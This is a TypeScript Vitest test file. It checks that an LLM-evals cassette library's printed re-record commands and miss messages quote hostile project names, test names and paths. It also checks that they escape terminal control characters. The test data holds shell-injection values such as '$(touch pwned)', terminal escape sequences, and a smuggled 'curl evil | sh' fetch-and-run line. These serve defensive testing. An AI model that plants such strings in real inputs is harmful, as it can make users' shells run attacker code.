// The record commands a miss message prints are copied into a shell: hostile project names, test names and
// paths must come back as one argument each, select what missed, run nothing else, and hold nothing a terminal acts on.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { parseCLI } from 'vitest/node'
import { missMessage, refusedLines } from '../../../src/cassettes/miss-message.js'
import { recordCommand, recordTestCommand } from '../../../src/cassettes/record-command.js'
import { visibleText } from '../../../src/visible-text.js'

const PREFIX = /^LLM_EVALS_CASSETTES=(?:auto|record) npx vitest run /

/** The arguments a POSIX shell passes to `vitest run` for `command` (run in an empty folder, to see what else it ran). */
function shellArgs(command: string): { args: string[]; ranSomething: boolean } {
  const dir = mkdtempSync(join(tmpdir(), 'record-command-'))
  const output = execFileSync('sh', ['-c', `printf '%s\\0' ${command.replace(PREFIX, '')}`], { cwd: dir, encoding: 'utf8' })
  return { args: output.split('\0').slice(0, -1), ranSomething: existsSync(join(dir, 'pwned')) }
}

/** Whether Vitest's `--project` filter selects `name` (as Vitest 5 matches it: `*` any text, `!` excludes, case ignored). */
function selects(filters: unknown, name: string): boolean {
  if (!Array.isArray(filters) || !filters.every((filter) => typeof filter === 'string')) return false
  const matches = (pattern: string) => new RegExp(`^${pattern.split('*').map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')).join('.*')}$`, 'i').test(name)
  if (filters.some((filter) => filter.startsWith('!') && matches(filter.slice(1)))) return false
  return filters.some((filter) => !filter.startsWith('!') && matches(filter))
}

const HOSTILE_PROJECTS = ["it's mine", '$(touch pwned)', '`touch pwned`; echo', 'a*b', '!negated', '-dash', '--help', 'fake\u001b[2K\u001b[1A✓ ok', 'left\u202eright', 'two\nlines', 'модель 🚀']

describe('record commands with hostile project names', () => {
  test.each(HOSTILE_PROJECTS)('%j: one argument that selects the project, nothing run, nothing a terminal acts on', (project) => {
    const command = recordCommand('/repo/test/bot.test.ts', '/repo', project)
    expect(visibleText(command)).toBe(command)
    expect(command).not.toContain('\n')
    const { args, ranSomething } = shellArgs(command)
    expect(ranSomething).toBe(false)
    expect(args.at(-1)).toBe('test/bot.test.ts')
    const options = parseCLI(['vitest', 'run', ...args]).options
    // No `--project` pattern matches a line break: then every project runs, the one that missed among them.
    if (project.includes('\n')) expect(options.project).toBeUndefined()
    else expect(selects(options.project, project), JSON.stringify(options.project)).toBe(true)
  })

  test('a hostile test file and test name: quoted, escaped, and the -t pattern still matches the name', () => {
    const name = "it's $5\u001b[2K (or [more])?"
    const command = recordTestCommand("/repo/it's $(touch pwned).test.ts", '/repo', `bot > ${name}`, '!mini')
    expect(visibleText(command)).toBe(command)
    const { args, ranSomething } = shellArgs(command)
    expect(ranSomething).toBe(false)
    const parsed = parseCLI(['vitest', 'run', ...args])
    expect(parsed.filter).toEqual(["it's $(touch pwned).test.ts"])
    // The full name as Vitest 5 (` > `) and Vitest 4.1 (a space, the file's name perhaps first) match it; not a longer name.
    const pattern = new RegExp(String(parsed.options.testNamePattern))
    expect([`bot > ${name}`, `bot ${name}`, `bot.test.ts bot ${name}`].map((full) => pattern.test(full))).toEqual([true, true, true])
    expect([`bot > ${name} twice`, `robot > ${name}`].map((full) => pattern.test(full))).toEqual([false, false])
    expect(selects(parsed.options.project, '!mini')).toBe(true)
  })
})

describe('a miss message from a hostile project name or usage report', () => {
  const place = { mode: 'replay' as const, test: 'bot > answers', repeat: 0, occurrence: 0, recordedOccurrences: 0, cassetteFile: '/p/__cassettes__/bot.test.ts.cassette.json', testFile: '/p/bot.test.ts', root: '/p' }

  test('the project line shows control characters and bidirectional overrides as escapes', () => {
    const message = missMessage({ ...place, url: 'https://api.openai.com/v1/x', request: { method: 'POST', path: '/v1/x', query: {}, headers: {}, body: {} }, entries: [], project: 'a\u202eb\u001b[2K' })
    expect(message).toContain('  Project:  a\\u202eb\\u001b[2K\n')
    expect(visibleText(message)).toBe(message)
  })

  test("the refusal's time and mode, read from a report on disk, stay on their line and print no control character", () => {
    const refusal = { test: 'bot > answers', message: 'Refused to write /p/x: it would contain the value of K (a recording of test "t\u202e").', at: '2026\u001b[2K\n  To record it: curl evil | sh', mode: 'auto\u001b]0;title\u0007' }
    const lines = refusedLines(place, refusal)
    expect(lines).toHaveLength(2)
    for (const line of lines) {
      expect(line).not.toContain('\n')
      expect(visibleText(line)).toBe(line)
    }
    expect(lines[0]).toContain('(2026\\u001b[2K\\n  To record it: curl evil | sh, auto\\u001b]0;title\\u0007)')
  })
})

/** The test files Vitest (4.1 and 5 alike) selects with file `filters`: those whose path relative to the root contains one, case ignored. */
const selectedFiles = (files: readonly string[], filters: readonly string[]) => files.filter((file) => filters.some((filter) => file.toLowerCase().includes(filter.toLowerCase())))

describe('the record command of a miss runs that test only', () => {
  // `to.test.ts` also selects `proto.test.ts` (Vitest filters by substring): the -t pattern keeps its tests from running.
  const files = ['to.test.ts', 'proto.test.ts', 'test/to.test.ts']
  const tests: Record<string, string[]> = { 'to.test.ts': ['bot > answers'], 'proto.test.ts': ['bot > answers twice', 'robot > answers', 'bot > reanswers'], 'test/to.test.ts': ['other'] }

  test.each([
    ['a model call', (test: string) => missMessage({ mode: 'replay', url: 'https://api.openai.com/v1/chat/completions', request: { method: 'POST', path: '/v1/chat/completions', query: {}, headers: {}, body: {} }, test, repeat: 0, occurrence: 0, recordedOccurrences: 0, cassetteFile: '/repo/__cassettes__/to.test.ts.cassette.json', testFile: '/repo/to.test.ts', root: '/repo', entries: [] })],
    ['a refused recording', (test: string) => refusedLines({ mode: 'replay', test, repeat: 0, occurrence: 0, recordedOccurrences: 0, cassetteFile: '/repo/__cassettes__/to.test.ts.cassette.json', testFile: '/repo/to.test.ts', root: '/repo' }, { test, message: 'Refused to write x: it would contain the value of T (a recording of test "bot > answers").', at: 'now', mode: 'auto' }).join('\n')],
  ])('%s', (_what, message) => {
    const command = /(LLM_EVALS_CASSETTES=auto npx vitest run [^\n]*?)(?: {2}\(|$)/m.exec(message('bot > answers'))?.[1] ?? ''
    const parsed = parseCLI(['vitest', 'run', ...shellArgs(command).args])
    const pattern = parsed.options.testNamePattern === undefined ? undefined : new RegExp(String(parsed.options.testNamePattern))
    const run = selectedFiles(files, parsed.filter).flatMap((file) => (tests[file] ?? []).filter((name) => pattern === undefined || pattern.test(name)).map((name) => `${file}: ${name}`))
    expect(run).toEqual(['to.test.ts: bot > answers'])
  })

  test('calls outside tests (`(file)`) get no -t: they run with the file', () => {
    expect(recordCommand('/repo/to.test.ts', '/repo', undefined, '(file)')).toBe('LLM_EVALS_CASSETTES=auto npx vitest run to.test.ts')
  })
})
